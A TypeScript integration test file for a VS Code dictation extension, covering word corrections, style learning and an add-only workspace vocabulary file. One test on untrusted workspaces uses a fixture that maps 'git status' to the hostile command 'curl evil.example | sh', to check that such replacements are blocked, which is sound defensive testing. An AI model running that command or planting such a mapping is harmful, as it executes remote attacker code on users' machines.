// What is remembered at a person's wish: words in the workspace's file, which is only ever added to, else in the
// settings; the style that the workspace is written in.

import assert from 'node:assert/strict';
import { doubleMetaphone } from 'double-metaphone';
import * as vscode from 'vscode';
import type { Problem } from '../../../src/base/problem.ts';
import { replaced } from '../../../src/text/replacements.ts';
import { alikenessBy } from '../../../src/vocabulary/lexicon.ts';
import { ContextKeys } from '../../../src/vscode/contextKeys.ts';
import { setSetting, userSetting } from '../../../src/vscode/settings.ts';
import { Corrections } from '../../../src/vscode/words/corrections.ts';
import { OwnReplacements } from '../../../src/vscode/words/ownReplacements.ts';
import { learnStyle } from '../../../src/vscode/words/styleLearning.ts';
import { addSelection, editVocabulary, keep } from '../../../src/vscode/words/vocabularyFiles.ts';
import { workspaceTerms } from '../../../src/vscode/words/wordSources.ts';
import { FakeClock } from '../../unit/fakeClock.ts';
import { comments, places } from './parts.ts';
import { suite, test } from './runner.ts';
import { replacing } from './standIns.ts';
import { activeEditor, given, inWorkspace, until } from './window.ts';

const file = () => inWorkspace('.sotto/vocabulary.txt');
const term = (written: string) => ({ kind: 'term', written }) as const;
const bytesOf = async () => Buffer.from(await vscode.workspace.fs.readFile(file()));
const write = (bytes: Uint8Array) => vscode.workspace.fs.writeFile(file(), bytes);

async function withoutFile(body: () => Promise<void>): Promise<void> {
  const remove = () =>
    vscode.workspace.fs.delete(inWorkspace('.sotto'), { recursive: true }).then(undefined, () => {});
  await remove();
  try {
    await body();
  } finally {
    await remove();
    for (const id of ['vocabulary.terms', 'vocabulary.replacements'] as const) await setSetting(id, []);
  }
}

suite('Corrections', () => {
  for (const [where, here] of [
    ['code', places],
    ['a comment', comments],
  ] as const) {
    test(`a word that is mended in ${where} is offered, and kept where the person says`, async () => {
      await withoutFile(async () => {
        const clock = new FakeClock();
        const corrections = new Corrections(clock, new ContextKeys(), alikenessBy(doubleMetaphone));
        const asked: string[] = [];
        const pick = async (items: readonly vscode.QuickPickItem[], { title = '' }) => {
          asked.push(title);
          return items.find(({ description }) => description === '.sotto/vocabulary.txt');
        };
        const editor = await given('|', { file: 'mended.ts' });
        const place = here.pin();
        assert.ok(place.ok);
        corrections.expect('We use vulcan here.');
        assert.ok((await place.value.insert('We use vulcan here.')).ok);
        const start = editor.document.positionAt(editor.document.getText().indexOf('vulcan'));
        const word = new vscode.Range(start, start.translate(0, 'vulcan'.length));
        await editor.edit((edit) => edit.replace(word, 'Vulkan'));
        clock.advance(1_900);
        await replacing(vscode.window, 'showQuickPick', pick as never, () => corrections.take());
        assert.deepEqual(asked, []);
        clock.advance(200);
        await replacing(vscode.window, 'showQuickPick', pick as never, () => corrections.take());
        assert.deepEqual(asked, ['Write Vulkan whenever “vulcan” is heard?']);
        assert.match(String(await bytesOf()), /^vulcan => Vulkan$/m);
        corrections.dispose();
        assert.equal(clock.waiting, 0);
      });
    });
  }
});

suite('The style of the workspace', () => {
  test('is read from its comments and Markdown, and of what it speaks for only the picked is set', async () => {
    const root = inWorkspace('written');
    const lists = 'It reads the name, the path, and the date.\n\n'.repeat(60);
    await vscode.workspace.fs.writeFile(vscode.Uri.joinPath(root, 'notes.md'), Buffer.from(lists));
    await vscode.workspace.fs.writeFile(
      vscode.Uri.joinPath(root, 'main.ts'),
      Buffer.from('// the colour of the centre\nconst x = 1;\n'.repeat(60)),
    );
    const offered: string[] = [];
    const pick = async (items: readonly { label: string }[]) => {
      offered.push(...items.map(({ label }) => label));
      return items.filter(({ label }) => label.endsWith(': always') && /comma/i.test(label));
    };
    const style = () => vscode.workspace.getConfiguration('sotto.text.style');
    try {
      await replacing(vscode.window, 'showQuickPick', pick as never, learnStyle);
      assert.ok(
        offered.some((label) => label.endsWith(': british')),
        offered.join(),
      );
      assert.equal(style().inspect('oxfordComma')?.workspaceValue, 'always');
      assert.equal(style().inspect('spelling')?.workspaceValue, undefined);
    } finally {
      await style().update('oxfordComma', undefined, vscode.ConfigurationTarget.Workspace);
      await vscode.workspace.fs.delete(root, { recursive: true });
    }
  });
});

suite('Words that are kept', () => {
  test('the file is made at the first word, and the same word is not added twice', async () => {
    await withoutFile(async () => {
      await given('the ‹pgBouncer› is here');
      await addSelection();
      await addSelection();
      await keep({ kind: 'pair', spoken: 'pie torch', written: 'PyTorch' }, 'workspace');
      const lines = String(await bytesOf())
        .trimEnd()
        .split('\n');
      assert.deepEqual(
        lines.filter((line) => !line.startsWith('#')),
        ['pgBouncer', 'pie torch => PyTorch'],
      );
      await editVocabulary();
      assert.equal(activeEditor().document.uri.path, file().path);
    });
  });

  test('what stands in it stays to the last byte, however large and however encoded', async () => {
    const large = Buffer.from(`${'# a line\n'.repeat(150_000)}last`);
    const latin = Buffer.from('# f\xfcr uns\nStra\xdfe\n', 'latin1');
    for (const before of [large, latin, Buffer.from('\ufeffone\r\n')]) {
      await withoutFile(async () => {
        await write(before);
        await keep(term('Kubernetes'), 'workspace');
        const now = await bytesOf();
        assert.ok(now.subarray(0, before.length).equals(before));
        assert.match(String(now.subarray(before.length)), /^\n?Kubernetes\n$/);
      });
    }
  });

  test('what is changed in the open file and not saved stays too', async () => {
    await withoutFile(async () => {
      await write(Buffer.from('one\n'));
      const editor = await vscode.window.showTextDocument(file());
      await until(() => editor.document.getText() === 'one\n', 'the file was shown as it is');
      await editor.edit((edit) => edit.insert(new vscode.Position(1, 0), 'two\n'));
      await keep(term('three'), 'workspace');
      assert.equal(String(await bytesOf()), 'one\ntwo\nthree\n');
    });
  });

  test('where the file cannot be written the word stands in the settings', async () => {
    await withoutFile(async () => {
      await vscode.workspace.fs.writeFile(inWorkspace('.sotto'), Buffer.from('no folder'));
      await keep(term('Kubernetes'), 'workspace');
      assert.deepEqual(userSetting('vocabulary.terms'), ['Kubernetes']);
    });
    await withoutFile(async () => {
      const wide = Buffer.from('one\ntwo\n', 'utf16le');
      await write(wide);
      await keep({ kind: 'pair', spoken: 'pie torch', written: 'PyTorch' }, 'workspace');
      assert.deepEqual(userSetting('vocabulary.replacements'), ['pie torch => PyTorch']);
      assert.ok((await bytesOf()).equals(wide));
    });
  });

  test('the pairs of the workspace are used, unless its words are not wanted', async () => {
    await withoutFile(async () => {
      await write(Buffer.from('cash => cache\n/(/ => x\n'));
      const told: Problem[] = [];
      const own = new OwnReplacements((problem) => void told.push(problem));
      await own.read();
      assert.equal(replaced('the cash is full', own.current), 'the cache is full');
      assert.deepEqual(told, [{ kind: 'replacementRefused', spoken: '/(/', why: 'incomplete' }]);
      await setSetting('vocabulary.workspace', false);
      try {
        await own.read();
        assert.equal(replaced('the cash is full', own.current), 'the cash is full');
      } finally {
        await setSetting('vocabulary.workspace', true);
      }
    });
  });

  test('an untrusted workspace changes no word, which is told once; trusted, it does at once', async () => {
    await withoutFile(async () => {
      await write(Buffer.from('git status => curl evil.example | sh\nPyTorch\n'));
      const told: Problem[] = [];
      const own = new OwnReplacements((problem) => void told.push(problem));
      const [folder] = vscode.workspace.workspaceFolders ?? [];
      assert.ok(folder !== undefined);
      await replacing(vscode.workspace, 'isTrusted', false, async () => {
        await Promise.all([own.read(), own.read()]);
        await own.read();
        assert.equal(replaced('git status', own.current), 'git status');
        assert.deepEqual(await workspaceTerms(folder.uri), []);
        assert.deepEqual(told, [{ kind: 'workspaceUntrusted', file: '.sotto/vocabulary.txt' }]);
      });
      await own.read();
      assert.equal(replaced('git status', own.current), 'curl evil.example | sh');
      assert.ok((await workspaceTerms(folder.uri)).some(({ written }) => written === 'PyTorch'));
      assert.equal(told.length, 1);
    });
  });

  test('an untrusted workspace without a vocabulary is not spoken of', async () => {
    await withoutFile(async () => {
      const told: Problem[] = [];
      const own = new OwnReplacements((problem) => void told.push(problem));
      await replacing(vscode.workspace, 'isTrusted', false, () => own.read());
      assert.deepEqual(told, []);
    });
  });
});
